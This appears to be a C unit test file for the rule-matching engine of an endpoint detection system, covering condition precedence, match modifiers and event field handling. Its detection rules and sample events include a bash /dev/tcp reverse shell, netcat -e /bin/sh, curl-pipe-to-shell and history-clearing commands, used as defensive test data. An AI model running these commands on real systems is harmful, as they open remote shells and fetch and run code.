// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rule engine semantics: every detection construct, condition precedence,
 * each modifier with its case rules and escapes, the event view contract
 * (nfields, unset fields, non-terminated strings) and the rule accessors.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "rules/edr_rules.h"

static struct edr_ruleset *load_str(const char *y)
{
	struct edr_rules_err err = { 0 };
	struct edr_rule_src s = { "t.yml", y, strlen(y) };
	struct edr_ruleset *rs = edr_ruleset__load_mem(&s, 1, &err);

	if (!rs)
		fail_msg("load failed: %s\n--- rule:\n%s", err.msg, y);
	return rs;
}

/* A rule of category cat with the given detection block (indented by 4). */
static struct edr_ruleset *load_det(const char *cat, const char *det)
{
	char buf[8192];

	snprintf(buf, sizeof(buf),
		 "title: test rule\nid: r1\nlogsource:\n  product: linux\n  category: %s\n"
		 "detection:\n%s\nlevel: high\n", cat, det);
	return load_str(buf);
}

/* Evaluates an event given as "Field=value" strings (NULL-terminated). */
static int eval_kv(const struct edr_ruleset *rs, int cat, const char *const *kv,
		   const struct edr_rule **out, size_t max)
{
	struct edr_field_value f[EDR_SCHEMA_MAX_FIELDS] = { 0 };
	struct edr_rule_event ev = { .cat = cat, .nfields = edr_schema_nfields(cat), .f = f };
	struct edr_matcher *m = edr_matcher__new(rs);
	int n;

	assert_non_null(m);
	for (; *kv; kv++) {
		const char *eq = strchr(*kv, '=');
		char name[64];
		int fi, type;

		assert_non_null(eq);
		snprintf(name, sizeof(name), "%.*s", (int)(eq - *kv), *kv);
		fi = edr_schema_field_by_name(cat, name);
		if (fi < 0)
			fail_msg("test bug: no field %s", name);
		type = edr_schema_field_type(cat, fi);
		f[fi].set = 1;
		f[fi].s = eq + 1;
		f[fi].len = (uint32_t)strlen(eq + 1);
		if (type == EDR_FT_INT)
			f[fi].n = strtoll(eq + 1, NULL, 10);
		if (type == EDR_FT_BOOL)
			f[fi].n = !strcmp(eq + 1, "true");
	}
	n = edr_matcher__eval(m, &ev, out, max);
	edr_matcher__free(m);
	return n;
}

static bool hit(const struct edr_ruleset *rs, int cat, const char *const *kv)
{
	int n = eval_kv(rs, cat, kv, NULL, 0);

	assert_true(n >= 0);
	return n > 0;
}

#define EV(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define PC EDR_CAT_PROCESS_CREATION
#define NC EDR_CAT_NETWORK_CONNECTION

/* ---- structure ---- */

static void test_map_and_list(void **state)
{
	struct edr_ruleset *rs = load_det("process_creation",
		"    sel:\n"
		"        Image|endswith: /bash\n"
		"        CommandLine|contains:\n"
		"            - /dev/tcp/\n"
		"            - /dev/udp/\n"
		"    condition: sel\n");

	assert_true(hit(rs, PC, EV("Image=/usr/bin/bash", "CommandLine=bash -i >& /dev/tcp/1.2.3.4/1")));
	assert_true(hit(rs, PC, EV("Image=/usr/bin/bash", "CommandLine=x /dev/udp/y")));
	assert_false(hit(rs, PC, EV("Image=/usr/bin/zsh", "CommandLine=x /dev/tcp/y")));
	assert_false(hit(rs, PC, EV("Image=/usr/bin/bash", "CommandLine=ls")));
	assert_false(hit(rs, PC, EV("Image=/usr/bin/bash")));
	edr_ruleset__free(rs);
}

static void test_list_of_maps(void **state)
{
	struct edr_ruleset *rs = load_det("process_creation",
		"    sel:\n"
		"        - Image: /usr/bin/nc\n"
		"          CommandLine|contains: ' -e '\n"
		"        - Image: /usr/bin/ncat\n"
		"    condition: sel\n");

	assert_true(hit(rs, PC, EV("Image=/usr/bin/nc", "CommandLine=nc -e /bin/sh 1.2.3.4 1")));
	assert_false(hit(rs, PC, EV("Image=/usr/bin/nc", "CommandLine=nc -l 80")));
	assert_true(hit(rs, PC, EV("Image=/usr/bin/ncat")));
	edr_ruleset__free(rs);
}

static void test_keywords(void **state)
{
	struct edr_ruleset *rs = load_det("process_creation",
		"    keywords:\n"
		"        - 'xmrig'\n"
		"        - 'stratum+tcp://'\n"
		"    condition: keywords\n");

	/* keywords search every string field of the category */
	assert_true(hit(rs, PC, EV("Image=/tmp/XMRig")));
	assert_true(hit(rs, PC, EV("ParentCommandLine=./m -o stratum+tcp://pool:3333")));
	assert_false(hit(rs, PC, EV("Image=/usr/bin/ls", "ProcessId=1")));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    kw: 'history -c'\n"
		"    kwall:\n"
		"        '|all':\n"
		"            - 'unset'\n"
		"            - 'HISTFILE'\n"
		"    condition: kw or kwall\n");
	assert_true(hit(rs, PC, EV("CommandLine=bash -c history -c")));
	assert_true(hit(rs, PC, EV("CommandLine=unset HISTFILE")));
	assert_false(hit(rs, PC, EV("CommandLine=unset FOO")));
	edr_ruleset__free(rs);
}

static void test_multi_document_and_accessors(void **state)
{
	static const char y[] =
		"title: First\n"
		"id: 11111111-1111-1111-1111-111111111111\n"
		"status: test\n"
		"description: first rule\n"
		"tags: [attack.execution, attack.t1059.004, attack.T1105, attack.g0032, car.2013-05-004]\n"
		"logsource: {product: linux, category: process_creation}\n"
		"detection: {sel: {Image: /usr/bin/a}, condition: sel}\n"
		"level: critical\n"
		"---\n"
		"title: Second\n"
		"logsource: {category: file_event}\n"
		"detection: {sel: {TargetFilename|startswith: /etc/}, condition: sel}\n"
		"---\n";
	struct edr_ruleset *rs = load_str(y);
	const struct edr_rule *r;
	const char *const *t;
	size_t n;

	assert_int_equal(edr_ruleset__count(rs), 2);
	r = edr_ruleset__rule(rs, 0);
	assert_string_equal(edr_rule__title(r), "First");
	assert_string_equal(edr_rule__id(r), "11111111-1111-1111-1111-111111111111");
	assert_string_equal(edr_rule__description(r), "first rule");
	assert_string_equal(edr_rule__level(r), "critical");
	assert_int_equal(edr_rule__severity(r), 99);
	assert_string_equal(edr_rule__status(r), "test");
	assert_string_equal(edr_rule__file(r), "t.yml");
	assert_int_equal(edr_rule__line(r), 1);
	assert_int_equal(edr_rule__category(r), EDR_CAT_PROCESS_CREATION);
	assert_int_equal(edr_rule__index(r), 0);
	t = edr_rule__tags(r, &n);
	assert_int_equal(n, 5);
	assert_string_equal(t[1], "attack.t1059.004");
	t = edr_rule__techniques(r, &n);
	assert_int_equal(n, 2);
	assert_string_equal(t[0], "T1059.004");
	assert_string_equal(t[1], "T1105");

	r = edr_ruleset__rule(rs, 1);
	assert_string_equal(edr_rule__title(r), "Second");
	assert_string_equal(edr_rule__id(r), "");
	assert_string_equal(edr_rule__level(r), "medium");
	assert_int_equal(edr_rule__severity(r), 47);
	assert_int_equal(edr_rule__line(r), 10);
	assert_int_equal(edr_rule__category(r), EDR_CAT_FILE_EVENT);
	edr_rule__techniques(r, &n);
	assert_int_equal(n, 0);
	assert_null(edr_ruleset__rule(rs, 2));
	edr_ruleset__free(rs);
}

/* ---- conditions ---- */

static struct edr_ruleset *abc_rule(const char *cond)
{
	char det[1024];

	snprintf(det, sizeof(det),
		 "    a:\n        CommandLine|contains: aaa\n"
		 "    b:\n        CommandLine|contains: bbb\n"
		 "    c:\n        CommandLine|contains: ccc\n"
		 "    condition: %s\n", cond);
	return load_det("process_creation", det);
}

static bool abc(const struct edr_ruleset *rs, const char *cl)
{
	char kv[64];

	snprintf(kv, sizeof(kv), "CommandLine=%s", cl);
	return hit(rs, PC, EV(kv));
}

static void test_precedence(void **state)
{
	struct edr_ruleset *rs;

	/* and binds tighter than or: a or (b and c) */
	rs = abc_rule("a or b and c");
	assert_true(abc(rs, "aaa"));
	assert_false(abc(rs, "bbb"));
	assert_true(abc(rs, "bbb ccc"));
	edr_ruleset__free(rs);

	rs = abc_rule("(a or b) and c");
	assert_false(abc(rs, "aaa"));
	assert_true(abc(rs, "aaa ccc"));
	edr_ruleset__free(rs);

	/* not binds tighter than and: (not a) and b */
	rs = abc_rule("not a and b");
	assert_true(abc(rs, "bbb"));
	assert_false(abc(rs, "aaa bbb"));
	assert_false(abc(rs, "zzz"));
	edr_ruleset__free(rs);

	rs = abc_rule("not (a and b)");
	assert_true(abc(rs, "aaa"));
	assert_false(abc(rs, "aaa bbb"));
	assert_true(abc(rs, "zzz"));
	edr_ruleset__free(rs);

	rs = abc_rule("not not a");
	assert_true(abc(rs, "aaa"));
	assert_false(abc(rs, "bbb"));
	edr_ruleset__free(rs);

	rs = abc_rule("a AND NOT b OR c");
	assert_true(abc(rs, "aaa"));
	assert_false(abc(rs, "aaa bbb"));
	assert_true(abc(rs, "ccc"));
	edr_ruleset__free(rs);

	rs = abc_rule("((a) or ((b)))");
	assert_true(abc(rs, "bbb"));
	assert_false(abc(rs, "ccc"));
	edr_ruleset__free(rs);
}

static void test_of(void **state)
{
	struct edr_ruleset *rs;

	rs = load_det("process_creation",
		"    sel_a:\n        CommandLine|contains: aaa\n"
		"    sel_b:\n        CommandLine|contains: bbb\n"
		"    filter:\n        CommandLine|contains: fff\n"
		"    _helper:\n        CommandLine|contains: hhh\n"
		"    condition: 1 of sel_* and not filter\n");
	assert_true(abc(rs, "aaa"));
	assert_true(abc(rs, "bbb"));
	assert_false(abc(rs, "aaa fff"));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    sel_a:\n        CommandLine|contains: aaa\n"
		"    sel_b:\n        CommandLine|contains: bbb\n"
		"    condition: all of sel_*\n");
	assert_false(abc(rs, "aaa"));
	assert_true(abc(rs, "aaa bbb"));
	edr_ruleset__free(rs);

	/* them: every identifier except those starting with '_' */
	rs = load_det("process_creation",
		"    a:\n        CommandLine|contains: aaa\n"
		"    b:\n        CommandLine|contains: bbb\n"
		"    _h:\n        CommandLine|contains: hhh\n"
		"    condition: all of them\n");
	assert_true(abc(rs, "aaa bbb"));
	assert_false(abc(rs, "aaa"));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    a:\n        CommandLine|contains: aaa\n"
		"    b:\n        CommandLine|contains: bbb\n"
		"    _h:\n        CommandLine|contains: hhh\n"
		"    condition: 1 of them\n");
	assert_true(abc(rs, "bbb"));
	assert_false(abc(rs, "hhh"));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    x1:\n        CommandLine|contains: aaa\n"
		"    x2:\n        CommandLine|contains: bbb\n"
		"    y:\n        CommandLine|contains: ccc\n"
		"    condition: any of x* or all of y\n");
	assert_true(abc(rs, "bbb"));
	assert_true(abc(rs, "ccc"));
	assert_false(abc(rs, "ddd"));
	edr_ruleset__free(rs);

	/* globbing: '*' anywhere, backtracking without blowing up */
	rs = load_det("process_creation",
		"    sel_a_x:\n        CommandLine|contains: aaa\n"
		"    sel_b_y:\n        CommandLine|contains: bbb\n"
		"    aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac:\n        CommandLine|contains: ccc\n"
		"    condition: 1 of *_x or all of s*_y or 1 of a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*c\n");
	assert_true(abc(rs, "aaa"));
	assert_true(abc(rs, "bbb"));
	assert_true(abc(rs, "ccc"));
	assert_false(abc(rs, "ddd"));
	edr_ruleset__free(rs);
	{
		/* a pattern that matches nothing must fail fast, not backtrack for ages */
		static const char y[] =
			"title: t\nlogsource: {category: process_creation}\ndetection:\n"
			"  aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa: {Image: x}\n"
			"  condition: 1 of a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b\n";
		struct edr_rules_err err = { 0 };
		struct edr_rule_src src = { "g.yml", y, sizeof(y) - 1 };

		assert_null(edr_ruleset__load_mem(&src, 1, &err));
		assert_non_null(strstr(err.msg, "matches no search identifier"));
	}
	rs = load_det("process_creation",
		"    sel_a_x:\n        CommandLine|contains: aaa\n"
		"    condition: 1 of s*l*_*x\n");
	assert_true(abc(rs, "aaa"));
	edr_ruleset__free(rs);

	/* a list of conditions is their "or" */
	rs = load_det("process_creation",
		"    a:\n        CommandLine|contains: aaa\n"
		"    b:\n        CommandLine|contains: bbb\n"
		"    condition:\n        - a\n        - b\n");
	assert_true(abc(rs, "aaa"));
	assert_true(abc(rs, "bbb"));
	assert_false(abc(rs, "ccc"));
	edr_ruleset__free(rs);
}

/* ---- modifiers ---- */

static bool one(const char *item, const char *value)
{
	char det[2048], kv[512];
	struct edr_ruleset *rs;
	bool r;

	snprintf(det, sizeof(det), "    sel:\n        %s\n    condition: sel\n", item);
	snprintf(kv, sizeof(kv), "CommandLine=%s", value);
	rs = load_det("process_creation", det);
	r = hit(rs, PC, EV(kv));
	edr_ruleset__free(rs);
	return r;
}

static void test_equality_and_case(void **state)
{
	assert_true(one("CommandLine: 'Whoami'", "whoami"));
	assert_true(one("CommandLine: 'whoami'", "WHOAMI"));
	assert_false(one("CommandLine: 'whoami'", "whoami /all"));
	assert_false(one("CommandLine: 'whoami'", "xwhoami"));
	assert_true(one("CommandLine|cased: 'Whoami'", "Whoami"));
	assert_false(one("CommandLine|cased: 'Whoami'", "whoami"));
	assert_true(one("CommandLine|contains|cased: 'AbC'", "xxAbCxx"));
	assert_false(one("CommandLine|contains|cased: 'AbC'", "xxabcxx"));
	/* regex metacharacters in plain values are literal */
	assert_true(one("CommandLine: 'a.b(c)[d]+$^|e'", "a.b(c)[d]+$^|e"));
	assert_false(one("CommandLine: 'a.b'", "axb"));
	assert_true(one("CommandLine: ''", ""));
	assert_false(one("CommandLine: ''", "x"));
	/* newlines are ordinary bytes */
	assert_true(one("CommandLine|contains: 'b'", "a\nb"));
	assert_true(one("CommandLine: 'a*c'", "a\nb\nc"));
}

static void test_contains_starts_ends(void **state)
{
	assert_true(one("CommandLine|contains: 'tcp'", "/dev/TCP/1"));
	assert_false(one("CommandLine|contains: 'tcp'", "/dev/udp/1"));
	assert_true(one("CommandLine|startswith: 'sudo '", "SUDO su"));
	assert_false(one("CommandLine|startswith: 'sudo '", "x sudo su"));
	assert_true(one("CommandLine|endswith: '.sh'", "run x.SH"));
	assert_false(one("CommandLine|endswith: '.sh'", "x.sh.bak"));
	assert_true(one("CommandLine|contains|all: [aa, bb]", "bb aa"));
	assert_false(one("CommandLine|contains|all: [aa, bb]", "aa"));
	assert_true(one("CommandLine|contains: [aa, bb]", "bb"));
}

static void test_wildcards_and_escapes(void **state)
{
	assert_true(one("CommandLine: 'curl * | sh'", "curl http://x | sh"));
	assert_false(one("CommandLine: 'curl * | sh'", "curl http://x | bash"));
	assert_true(one("CommandLine: 'ch?od'", "chmod"));
	assert_false(one("CommandLine: 'ch?od'", "chod"));
	assert_true(one("CommandLine: '*'", "anything"));
	assert_true(one("CommandLine: '*'", ""));
	assert_true(one("CommandLine: 'a**b'", "ab"));
	/* escapes: \\* is a literal star, \\? a literal ?, \\\\ a backslash */
	assert_true(one("CommandLine: 'rm \\*'", "rm *"));
	assert_false(one("CommandLine: 'rm \\*'", "rm x"));
	assert_true(one("CommandLine: 'what\\?'", "what?"));
	assert_false(one("CommandLine: 'what\\?'", "whatx"));
	assert_true(one("CommandLine: 'c:\\\\x'", "c:\\x"));
	assert_true(one("CommandLine: 'a\\\\*'", "a\\anything"));
	/* a backslash before anything else is itself */
	assert_true(one("CommandLine: 'a\\nb'", "a\\nb"));
	assert_true(one("CommandLine|contains: '\\*'", "x*y"));
	assert_false(one("CommandLine|contains: '\\*'", "xy"));
}

static void test_re(void **state)
{
	assert_true(one("CommandLine|re: 'nc(at)? .*-e'", "ncat -v -e /bin/sh"));
	assert_false(one("CommandLine|re: 'nc(at)? .*-e'", "ncx -e"));
	/* re is case-sensitive unless |i */
	assert_false(one("CommandLine|re: 'BASH'", "bash"));
	assert_true(one("CommandLine|re|i: 'BASH'", "bash"));
	/* unanchored search, anchors honoured */
	assert_true(one("CommandLine|re: 'sh$'", "bash"));
	assert_false(one("CommandLine|re: '^sh'", "bash"));
	/* m: ^ matches after newlines; s: . matches newline */
	assert_false(one("CommandLine|re: '^b'", "a\nb"));
	assert_true(one("CommandLine|re|m: '^b'", "a\nb"));
	assert_false(one("CommandLine|re: 'a.b'", "a\nb"));
	assert_true(one("CommandLine|re|s: 'a.b'", "a\nb"));
	assert_true(one("CommandLine|re: 'x*'", ""));
	/* repeats within the size limit compile and work */
	assert_true(one("CommandLine|re: '[0-9a-f]{64}'", "sha256 " "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"));
	assert_false(one("CommandLine|re: '[0-9a-f]{64}'", "sha256 0123456789abcdef"));
	assert_true(one("CommandLine|re: '(\\d{1,3}\\.){3}\\d{1,3}'", "ping 10.1.2.3"));
}

static void test_base64(void **state)
{
	/* "curl http" in base64 at the three alignments */
	assert_true(one("CommandLine|base64|contains: 'curl http'", "echo Y3VybCBodHRw | base64 -d"));
	assert_true(one("CommandLine|base64offset|contains: 'curl http'", "echo Y3VybCBodHRw"));
	assert_true(one("CommandLine|base64offset|contains: 'curl http'", "echo IGN1cmwgaHR0c"));   /* " curl http" */
	assert_true(one("CommandLine|base64offset|contains: 'curl http'", "echo ICBjdXJsIGh0dHA")); /* "  curl http" */
	assert_false(one("CommandLine|base64offset|contains: 'curl http'", "echo d2dldCBodHRw"));
	/* base64 text is matched case-sensitively */
	assert_false(one("CommandLine|base64|contains: 'curl http'", "echo y3vybcbodhrw"));
	assert_true(one("CommandLine|base64: 'ab'", "YWI="));
}

static void test_windash(void **state)
{
	assert_true(one("CommandLine|windash|contains: ' -exec '", "find . /exec x"));
	assert_true(one("CommandLine|windash|contains: ' -exec '", "find . -exec x"));
	assert_false(one("CommandLine|windash|contains: ' -exec '", "find . +exec x"));
	/* a dash inside a word is not an option dash */
	assert_false(one("CommandLine|windash|contains: 'a-b'", "a/b"));
}

static void test_numbers_bool_cidr(void **state)
{
	struct edr_ruleset *rs = load_det("network_connection",
		"    sel:\n"
		"        DestinationPort|gte: 1024\n"
		"        DestinationPort|lt: 2048\n"
		"        Initiated: 'true'\n"
		"    net:\n"
		"        DestinationIp|cidr:\n"
		"            - 10.0.0.0/8\n"
		"            - 2001:db8::/32\n"
		"    port:\n"
		"        SourcePort: 53\n"
		"    big:\n"
		"        SourcePort|gt: 60000\n"
		"    small:\n"
		"        SourcePort|lte: 1\n"
		"    condition: (sel and net) or port or big or small\n");

	assert_true(hit(rs, NC, EV("DestinationPort=1024", "Initiated=true", "DestinationIp=10.1.2.3")));
	assert_true(hit(rs, NC, EV("DestinationPort=2047", "Initiated=true", "DestinationIp=2001:db8::1")));
	assert_true(hit(rs, NC, EV("DestinationPort=2047", "Initiated=true", "DestinationIp=::ffff:10.0.0.9")));
	assert_false(hit(rs, NC, EV("DestinationPort=2048", "Initiated=true", "DestinationIp=10.1.2.3")));
	assert_false(hit(rs, NC, EV("DestinationPort=1023", "Initiated=true", "DestinationIp=10.1.2.3")));
	assert_false(hit(rs, NC, EV("DestinationPort=1500", "Initiated=false", "DestinationIp=10.1.2.3")));
	assert_false(hit(rs, NC, EV("DestinationPort=1500", "Initiated=true", "DestinationIp=11.1.2.3")));
	assert_false(hit(rs, NC, EV("DestinationPort=1500", "Initiated=true", "DestinationIp=2001:db9::1")));
	assert_false(hit(rs, NC, EV("DestinationPort=1500", "Initiated=true", "DestinationIp=garbage")));
	assert_true(hit(rs, NC, EV("SourcePort=53")));
	assert_true(hit(rs, NC, EV("SourcePort=60001")));
	assert_false(hit(rs, NC, EV("SourcePort=60000")));
	assert_true(hit(rs, NC, EV("SourcePort=0")));
	assert_false(hit(rs, NC, EV("SourcePort=2")));
	assert_false(hit(rs, NC, EV("Image=/x")));
	edr_ruleset__free(rs);

	rs = load_det("network_connection",
		"    sel:\n        DestinationIp|cidr: 192.168.1.77/23\n    condition: sel\n");
	assert_true(hit(rs, NC, EV("DestinationIp=192.168.0.1")));
	assert_true(hit(rs, NC, EV("DestinationIp=192.168.1.255")));
	assert_false(hit(rs, NC, EV("DestinationIp=192.168.2.0")));
	edr_ruleset__free(rs);

	/* IP fields also take string matching on their text */
	rs = load_det("network_connection",
		"    sel:\n        DestinationIp|startswith: '169.254.'\n    condition: sel\n");
	assert_true(hit(rs, NC, EV("DestinationIp=169.254.169.254")));
	assert_false(hit(rs, NC, EV("DestinationIp=10.254.169.254")));
	edr_ruleset__free(rs);
}

static void test_exists_null_fieldref(void **state)
{
	struct edr_ruleset *rs = load_det("process_creation",
		"    has:\n        ContainerId|exists: true\n"
		"    hasnot:\n        ParentImage|exists: false\n"
		"    condition: has and hasnot\n");

	assert_true(hit(rs, PC, EV("ContainerId=abc")));
	assert_false(hit(rs, PC, EV("ContainerId=abc", "ParentImage=/sbin/init")));
	assert_false(hit(rs, PC, EV("Image=/x")));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    sel:\n        Image|endswith: /sh\n        ParentImage: null\n    condition: sel\n");
	assert_true(hit(rs, PC, EV("Image=/bin/sh")));
	assert_true(hit(rs, PC, EV("Image=/bin/sh", "ParentImage=")));
	assert_false(hit(rs, PC, EV("Image=/bin/sh", "ParentImage=/bin/x")));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    same:\n        User|fieldref: ParentUser\n"
		"    pfx:\n        CommandLine|fieldref|startswith: Image\n"
		"    ids:\n        ProcessId|fieldref: ParentProcessId\n"
		"    condition: same and pfx or ids\n");
	assert_true(hit(rs, PC, EV("User=root", "ParentUser=ROOT", "Image=/bin/ls", "CommandLine=/bin/ls -l")));
	assert_false(hit(rs, PC, EV("User=root", "ParentUser=bob", "Image=/bin/ls", "CommandLine=/bin/ls -l")));
	assert_false(hit(rs, PC, EV("User=root", "ParentUser=root", "Image=/bin/ls", "CommandLine=ls -l")));
	assert_false(hit(rs, PC, EV("User=root", "Image=/bin/ls", "CommandLine=/bin/ls")));
	assert_true(hit(rs, PC, EV("ProcessId=7", "ParentProcessId=7")));
	assert_false(hit(rs, PC, EV("ProcessId=7", "ParentProcessId=8")));
	edr_ruleset__free(rs);

	rs = load_det("process_creation",
		"    sel:\n        CommandLine|fieldref|contains|cased: User\n    condition: sel\n");
	assert_true(hit(rs, PC, EV("User=Bob", "CommandLine=su Bob -c x")));
	assert_false(hit(rs, PC, EV("User=Bob", "CommandLine=su bob -c x")));
	edr_ruleset__free(rs);
}

/* ---- event view contract ---- */

static void test_event_bounds(void **state)
{
	struct edr_ruleset *rs = load_det("process_creation",
		"    sel:\n        ContainerId|contains: abc\n"
		"    nope:\n        Image: /x\n"
		"    condition: sel or not nope\n");
	struct edr_matcher *m = edr_matcher__new(rs);
	struct edr_field_value f[EDR_SCHEMA_MAX_FIELDS + 8] = { 0 };
	struct edr_rule_event ev = { .cat = PC, .f = f };
	const struct edr_rule *out[2];
	char buf[8] = { 'I', 'M', 'G', 'x', 'x', 'x', 'x', 'x' };

	assert_non_null(m);
	f[EDR_F_PROCESS_CREATION_CONTAINER_ID] = (struct edr_field_value){ .s = "abc", .len = 3, .set = 1 };
	f[EDR_F_PROCESS_CREATION_IMAGE] = (struct edr_field_value){ .s = "/x", .len = 2, .set = 1 };
	/* ContainerId is the last field: an event with fewer fields never has it */
	ev.nfields = EDR_F_PROCESS_CREATION_CONTAINER_ID;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 0);
	ev.nfields = EDR_F_PROCESS_CREATION_CONTAINER_ID + 1;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 1);
	/* more fields than the schema: the extra ones are never read */
	ev.nfields = EDR_SCHEMA_MAX_FIELDS + 8;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 1);
	/* no fields at all: "not nope" holds */
	ev.nfields = 0;
	ev.f = NULL;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 1);
	ev.f = f;
	/* strings are bounded by len, not NUL */
	ev.nfields = EDR_NFIELDS(PROCESS_CREATION);
	f[EDR_F_PROCESS_CREATION_CONTAINER_ID] = (struct edr_field_value){ .s = buf, .len = 3, .set = 1 };
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 0);
	f[EDR_F_PROCESS_CREATION_CONTAINER_ID] = (struct edr_field_value){ .s = "xabc", .len = 3, .set = 1 };
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 0);
	/* an unset field with a stale pointer is not read */
	f[EDR_F_PROCESS_CREATION_CONTAINER_ID] = (struct edr_field_value){ .s = "abc", .len = 3, .set = 0 };
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 0);
	/* bad arguments */
	ev.cat = -1;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), -EINVAL);
	ev.cat = _EDR_CAT_MAX;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), -EINVAL);
	assert_int_equal(edr_matcher__eval(m, NULL, out, 2), -EINVAL);
	/* a category without rules */
	ev.cat = EDR_CAT_PTRACE;
	ev.nfields = 0;
	assert_int_equal(edr_matcher__eval(m, &ev, out, 2), 0);
	edr_matcher__free(m);
	edr_ruleset__free(rs);
}

static void test_all_matches_in_load_order(void **state)
{
	static const char y[] =
		"title: A\nlogsource: {category: process_creation}\n"
		"detection: {sel: {CommandLine|contains: zzz}, condition: sel}\n---\n"
		"title: B\nlogsource: {category: process_creation}\n"
		"detection: {sel: {Image|endswith: /x}, condition: not sel}\n---\n"
		"title: C\nlogsource: {category: process_creation}\n"
		"detection: {sel: {CommandLine|contains: aaa}, condition: sel}\n---\n"
		"title: D\nlogsource: {category: process_creation}\n"
		"detection: {sel: {CommandLine|contains: [aaa, zzz]}, condition: sel}\n---\n"
		"title: E\nlogsource: {category: file_event}\n"
		"detection: {sel: {CommandLine|contains: aaa}, condition: sel}\n";
	struct edr_ruleset *rs = load_str(y);
	const struct edr_rule *out[8];
	int n;

	n = eval_kv(rs, PC, EV("CommandLine=aaa zzz", "Image=/y"), out, 8);
	assert_int_equal(n, 4);
	assert_string_equal(edr_rule__title(out[0]), "A");
	assert_string_equal(edr_rule__title(out[1]), "B");
	assert_string_equal(edr_rule__title(out[2]), "C");
	assert_string_equal(edr_rule__title(out[3]), "D");
	/* the count is the total even when out is smaller */
	n = eval_kv(rs, PC, EV("CommandLine=aaa zzz", "Image=/y"), out, 2);
	assert_int_equal(n, 4);
	assert_string_equal(edr_rule__title(out[1]), "B");
	n = eval_kv(rs, PC, EV("CommandLine=zzz", "Image=/x"), out, 8);
	assert_int_equal(n, 2);
	assert_string_equal(edr_rule__title(out[0]), "A");
	assert_string_equal(edr_rule__title(out[1]), "D");
	edr_ruleset__free(rs);
}

static void test_samples_selftest(void **state)
{
	static const char y[] =
		"title: S\nid: s1\nlogsource: {category: network_connection}\n"
		"detection:\n  sel:\n    DestinationPort: 4444\n    Initiated: true\n  condition: sel\n"
		"x-edr-samples:\n"
		"  match:\n    - {DestinationPort: 4444, Initiated: true, DestinationIp: 1.2.3.4}\n"
		"  nomatch:\n    - {DestinationPort: 4444, Initiated: false}\n"
		"    - {DestinationPort: 4445, Initiated: true, Image: null}\n";
	static const char bad[] =
		"title: S2\nid: s2\nlogsource: {category: process_creation}\n"
		"detection: {sel: {Image|endswith: /nc}, condition: sel}\n"
		"x-edr-samples:\n"
		"  match:\n    - {Image: /usr/bin/nc}\n"
		"  nomatch:\n    - {Image: /usr/bin/ncat}\n"
		"    - {Image: /bin/nc}\n";
	struct edr_rules_err err = { 0 };
	struct edr_ruleset *rs = load_str(y);

	assert_int_equal(edr_ruleset__selftest(rs, &err), 0);
	assert_int_equal(err.nerrors, 0);
	edr_ruleset__free(rs);

	rs = load_str(bad);
	assert_int_equal(edr_ruleset__selftest(rs, &err), -EINVAL);
	assert_string_equal(err.msg, "t.yml:10:7: rule 'S2' (s2): nomatch sample 2 matched");
	edr_ruleset__free(rs);
}

static void test_shared_patterns(void **state)
{
	/* many rules with one pattern: one atom, every rule reported */
	char *y = malloc(200 * 120), *p = y;
	struct edr_ruleset *rs;
	const struct edr_rule *out[256];
	int i, n;

	for (i = 0; i < 200; i++)
		p += sprintf(p, "%stitle: R%d\nlogsource: {category: process_creation}\n"
			     "detection: {s: {CommandLine|contains: same}, condition: s}\n",
			     i ? "---\n" : "", i);
	rs = load_str(y);
	free(y);
	assert_int_equal(edr_ruleset__count(rs), 200);
	n = eval_kv(rs, PC, EV("CommandLine=the SAME"), out, 256);
	assert_int_equal(n, 200);
	for (i = 0; i < 200; i++)
		assert_int_equal(edr_rule__index(out[i]), i);
	edr_ruleset__free(rs);
}

static void test_trigger_sets(void **state)
{
	/*
	 * 50 rules share "/bash" and each has its own parent; rule 50 has only
	 * the shared pattern and a negation. Waking a rule on its rarest
	 * requirement must never lose a match.
	 */
	char *y = malloc(60 * 400), *p = y;
	struct edr_ruleset *rs;
	const struct edr_rule *out[64];
	int i, n;

	for (i = 0; i < 50; i++)
		p += sprintf(p, "%stitle: R%d\nlogsource: {category: process_creation}\n"
			     "detection:\n  shell: {Image|endswith: [/bash, /sh]}\n"
			     "  parent: {ParentImage|endswith: /parent%d}\n"
			     "  condition: shell and (parent or parent)\n", i ? "---\n" : "", i, i);
	p += sprintf(p, "---\ntitle: Shared\nlogsource: {category: process_creation}\n"
		     "detection:\n  shell: {Image|endswith: /bash}\n  f: {User: root}\n"
		     "  condition: shell and not f\n");
	p += sprintf(p, "---\ntitle: NotNot\nlogsource: {category: process_creation}\n"
		     "detection:\n  s: {CommandLine|contains: zz}\n  condition: not not s\n");
	rs = load_str(y);
	free(y);
	n = eval_kv(rs, PC, EV("Image=/usr/bin/bash", "ParentImage=/x/parent7", "User=bob"), out, 64);
	assert_int_equal(n, 2);
	assert_string_equal(edr_rule__title(out[0]), "R7");
	assert_string_equal(edr_rule__title(out[1]), "Shared");
	n = eval_kv(rs, PC, EV("Image=/usr/bin/sh", "ParentImage=/x/parent49", "User=root"), out, 64);
	assert_int_equal(n, 1);
